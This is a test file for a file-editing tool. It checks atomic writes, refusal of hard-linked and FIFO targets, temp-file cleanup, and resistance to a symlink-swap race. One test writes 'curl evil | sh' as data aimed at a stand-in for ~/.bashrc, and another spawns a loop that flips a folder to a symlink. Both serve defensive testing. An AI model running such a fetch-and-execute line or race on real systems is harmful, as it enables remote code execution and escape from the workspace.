/**
 * How the editor writes: through the atomic writer (a new inode for a file with one name), never
 * to a hard-linked file (its other names may lie outside the workspace), pinned against directories swapped
 * for symlinks, never blocking on a FIFO, with its scratch files named and cleaned up.
 */
import assert from "node:assert/strict";
import { hasAllPermissions, runWithAllPermissions } from "../../../helpers/full_permissions.ts";
import { join } from "node:path";
import {
  editorsIn,
  INSIDE_FILES,
  OUTSIDE_FILES,
  raceEditors,
  writeFiles,
} from "../../../helpers/edit_race.ts";
import { preserving, SharedFileError, writeFileAtomic } from "../../../../src/tools/fs/atomic.ts";
import {
  removeStaleTemps,
  TEMP_NAME_PATTERN,
  tempName,
} from "../../../../src/tools/fs/temp_names.ts";
import { strayTempFiles, utf8, withEditor, withOutsideDir } from "../../../helpers/editor.ts";

Deno.test("writes: a file with one name is replaced through the atomic writer (new inode)", async () => {
  await withEditor(async ({ ws, call }) => {
    const path = join(ws, "one.txt");
    await Deno.writeTextFile(path, "alpha\nbeta\n");
    await Deno.chmod(path, 0o640);
    const inodes = [(await Deno.stat(path)).ino];
    const steps = [
      { command: "str_replace", path, old_str: "beta", new_str: "gamma" },
      { command: "insert", path, insert_line: 0, new_str: "top" },
      { command: "undo_edit", path },
    ];
    for (const args of steps) {
      const r = await call(args);
      assert.equal(r.success, true, r.error ?? "");
      const info = await Deno.stat(path);
      // Written in place, the inode would stay; a rename brings the new file's inode (made while
      // the old one still existed, so it cannot be the same number).
      assert.notEqual(info.ino, inodes.at(-1), `${args.command} kept the inode: written in place`);
      assert.equal(info.mode! & 0o777, 0o640);
      inodes.push(info.ino);
    }
    assert.equal(await Deno.readTextFile(path), "alpha\ngamma\n");
    assert.deepEqual(await strayTempFiles(ws), []);
  });
});

Deno.test("writes: a hard link to a file outside the workspace is never edited through", async () => {
  await withOutsideDir(async (outside) => {
    await withEditor(async ({ ws, call }) => {
      // The outside file (a marker standing for ~/.bashrc) and a second name for it in the
      // workspace, as an archive, `cp -al` or a package store leaves them.
      const marker = join(outside, "bashrc");
      const linked = join(ws, "notes.txt");
      await Deno.writeTextFile(marker, "one\ntwo\nthree\n");
      await Deno.link(marker, linked);
      for (
        const args of [
          { command: "str_replace", path: linked, old_str: "two", new_str: "curl evil | sh" },
          { command: "insert", path: linked, insert_line: 3, new_str: "curl evil | sh" },
        ]
      ) {
        const r = await call(args);
        assert.equal(r.success, false, `${args.command} wrote through the hard link`);
        assert.match(
          r.error!,
          /notes\.txt has 2 hard links .*Deft does not edit a file that other paths share.*Nothing was written/,
        );
      }
      assert.equal(
        await Deno.readTextFile(marker),
        "one\ntwo\nthree\n",
        "the outside file changed",
      );
      assert.equal((await Deno.stat(marker)).nlink, 2, "the link itself is left as it was");
      assert.deepEqual(await strayTempFiles(ws), []);
    });
  });
});

Deno.test("writes: undo_edit of a file that gained a second name since is refused too", async () => {
  await withOutsideDir(async (outside) => {
    await withEditor(async ({ ws, call }) => {
      const path = join(ws, "a.txt");
      await Deno.writeTextFile(path, "alpha\n");
      const edit = await call({ command: "str_replace", path, old_str: "alpha", new_str: "beta" });
      assert.equal(edit.success, true, edit.error ?? "");
      await Deno.link(path, join(outside, "other-name"));
      const undo = await call({ command: "undo_edit", path });
      assert.equal(undo.success, false);
      assert.match(undo.error!, /has 2 hard links/);
      assert.equal(await Deno.readTextFile(join(outside, "other-name")), "beta\n");
    });
  });
});

Deno.test("writes: the atomic writer refuses a file read with several links, and writes nothing", async () => {
  await withOutsideDir(async (dir) => {
    const path = join(dir, "f");
    await Deno.writeTextFile(path, "original content");
    await Deno.link(path, join(dir, "g"));
    const info = await Deno.stat(path);
    await assert.rejects(
      writeFileAtomic(path, [utf8("new content")], { ...preserving(info), shown: "f" }),
      (e: Error) => e instanceof SharedFileError && /^f has 2 hard links/.test(e.message),
    );
    assert.equal(await Deno.readTextFile(join(dir, "g")), "original content");
    assert.equal((await Deno.stat(path)).ino, info.ino);
    assert.deepEqual(await strayTempFiles(dir), []);
  });
});

Deno.test("writes: scratch names match TEMP_NAME_PATTERN; stale .tmp files go, .bak stay", async () => {
  assert.match(tempName("tmp"), TEMP_NAME_PATTERN);
  assert.match(tempName("bak"), TEMP_NAME_PATTERN);
  assert.doesNotMatch(".deft-123.tmp", TEMP_NAME_PATTERN);
  await withOutsideDir(async (dir) => {
    const stale = join(dir, tempName("tmp"));
    const fresh = join(dir, tempName("tmp"));
    const backup = join(dir, tempName("bak"));
    for (const p of [stale, fresh, backup]) await Deno.writeTextFile(p, "x");
    const old = new Date(Date.now() - 120_000);
    await Deno.utime(stale, old, old);
    await Deno.utime(backup, old, old);
    // The first write into a directory sweeps it.
    await writeFileAtomic(join(dir, "target"), [utf8("new")]);
    assert.equal(await Deno.readTextFile(join(dir, "target")), "new");
    await assert.rejects(Deno.stat(stale), Deno.errors.NotFound);
    await Deno.stat(fresh);
    await Deno.stat(backup);
    assert.equal(removeStaleTemps(`${dir}/`, Date.now() + 120_000), 1);
    await Deno.stat(backup);
  });
});

Deno.test("writes: a FIFO is refused at once for every command, never opened", async () => {
  await withEditor(async ({ ws, call }) => {
    const fifo = join(ws, "pipe");
    const mk = await new Deno.Command("mkfifo", { args: [fifo] }).output();
    assert.equal(mk.success, true);
    for (
      const args of [
        { command: "view", path: fifo },
        { command: "view", path: fifo, view_range: [1, 2] },
        { command: "str_replace", path: fifo, old_str: "a", new_str: "b" },
        { command: "insert", path: fifo, insert_line: 0, new_str: "x" },
        { command: "create", path: fifo, file_text: "x" },
      ]
    ) {
      const r = await call(args);
      assert.equal(r.success, false, args.command);
      assert.match(r.error!, /not a regular file|already exists/, args.command);
    }
  });
});

Deno.test("writes: a folder flipped to a symlink to outside during 500 edits changes nothing outside", async () => {
  if (!hasAllPermissions()) {
    return await runWithAllPermissions(
      import.meta.url,
      "writes: a folder flipped to a symlink to outside during 500 edits changes nothing outside",
    );
  }
  await withEditor(async ({ ws }) => {
    await withOutsideDir(async (outside) => {
      await writeFiles(outside, OUTSIDE_FILES);
      await Deno.writeTextFile(join(outside, "keep.txt"), "outside\n");
      const before = await snapshot(outside);
      const dir = join(ws, "d");
      await Deno.mkdir(dir);
      await writeFiles(dir, INSIDE_FILES);
      // A separate process, so that it flips while the editor is between its steps.
      const flip = `
        const pause = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
        for (;;) {
          Deno.renameSync("d", "d.real");
          Deno.symlinkSync(${JSON.stringify(outside)}, "d");
          pause(Math.random() * 2);
          Deno.removeSync("d");
          Deno.renameSync("d.real", "d");
          pause(Math.random() * 2);
        }`;
      const flipper = new Deno.Command(Deno.execPath(), {
        args: ["eval", flip],
        cwd: ws,
        stdout: "null",
        stderr: "inherit",
      }).spawn();
      await new Promise((r) => setTimeout(r, 300)); // let it start
      let succeeded = 0;
      try {
        for (const r of await raceEditors(dir, editorsIn(ws))) {
          if (r.success) succeeded++;
          else if (Deno.env.get("DEBUG_RACE")) console.log(r.error?.slice(0, 90));
        }
      } finally {
        flipper.kill("SIGKILL");
        await flipper.status;
      }
      // Put the folder back, whichever state the flipper was killed in.
      try {
        if ((await Deno.lstat(dir)).isSymlink) await Deno.remove(dir);
      } catch { /* missing */ }
      try {
        await Deno.rename(join(ws, "d.real"), dir);
      } catch { /* already in place */ }
      assert.deepEqual(await snapshot(outside), before, "something outside changed");
      assert.ok(succeeded > 0, "no edit ever got through: the test proves nothing");
      assert.match(await Deno.readTextFile(join(dir, "f.txt")), /^[AB]\n$/);
    });
  });
});

// Every entry of `dir` with its content and inode.
async function snapshot(dir: string): Promise<string[]> {
  const out: string[] = [];
  for await (const e of Deno.readDir(dir)) {
    const info = await Deno.lstat(join(dir, e.name));
    const content = info.isFile ? await Deno.readTextFile(join(dir, e.name)) : "";
    out.push(`${e.name} ${info.ino} ${JSON.stringify(content)}`);
  }
  return out.sort();
}
